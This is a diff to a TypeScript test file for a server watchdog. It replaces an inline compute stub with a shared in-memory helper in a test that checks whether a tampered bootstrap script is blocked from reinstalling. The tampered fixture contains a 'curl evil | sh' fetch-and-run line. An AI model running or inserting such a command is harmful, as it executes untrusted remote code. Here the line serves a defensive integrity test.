@@ -1,5 +1,4 @@
 import { describe, expect, it } from "vitest";
-import type { Compute } from "../../shared/cloud/compute";
 import { bootstrapUserData, hasBootstrap, userDataSha256 } from "../../shared/cloud/user-data";
 import type { BoxConfig } from "../../shared/config";
 import { ComputeError } from "../../shared/errors";
@@ -8,6 +7,7 @@ import { silentLogger } from "../../shared/runtime/logger";
 import { MemoryStateStore } from "../../shared/state/memory";
 import { perform } from "../../shared/watchdog/perform";
 import type { CycleDeps } from "../../shared/watchdog/ports";
+import { MemoryCompute } from "../support/compute";
 
 const box = (extra: Partial<BoxConfig>): BoxConfig => ({
   name: "main",
@@ -50,17 +50,7 @@ describe("bootstrap user_data for the rebootstrap rung", () => {
   it("a rebootstrap with a tampered copy reinstalls nothing and fails the rung", async () => {
     const store = new MemoryStateStore();
     store.bootstraps.set("main", Buffer.from("#!/bin/sh\ncurl evil | sh\n").toString("base64"));
-    const reinstalls: string[] = [];
-    const compute: Compute = {
-      showServer: async (id) => ({ id, name: id, status: "ACTIVE" }),
-      start: async () => ({ jobId: "j" }),
-      reboot: async () => ({ jobId: "j" }),
-      reinstall: async (id, userData) => {
-        reinstalls.push(`${id} ${userData}`);
-        return { jobId: "j" };
-      },
-      showJob: async (id) => ({ id, status: "SUCCESS" }),
-    };
+    const compute = new MemoryCompute();
     const tampered = box({ bootstrapStored: true, bootstrapSha256: userDataSha256("c3RvcmVk") });
     const deps = {
       config: { runtime: { safetyMargin: 0 } },
@@ -83,7 +73,7 @@ describe("bootstrap user_data for the rebootstrap rung", () => {
       deps,
       silentLogger,
     );
-    expect(reinstalls).toEqual([]);
+    expect(compute.calls).toEqual([]);
     expect(outcomes).toEqual([
       expect.objectContaining({
         kind: "remediate-failed",
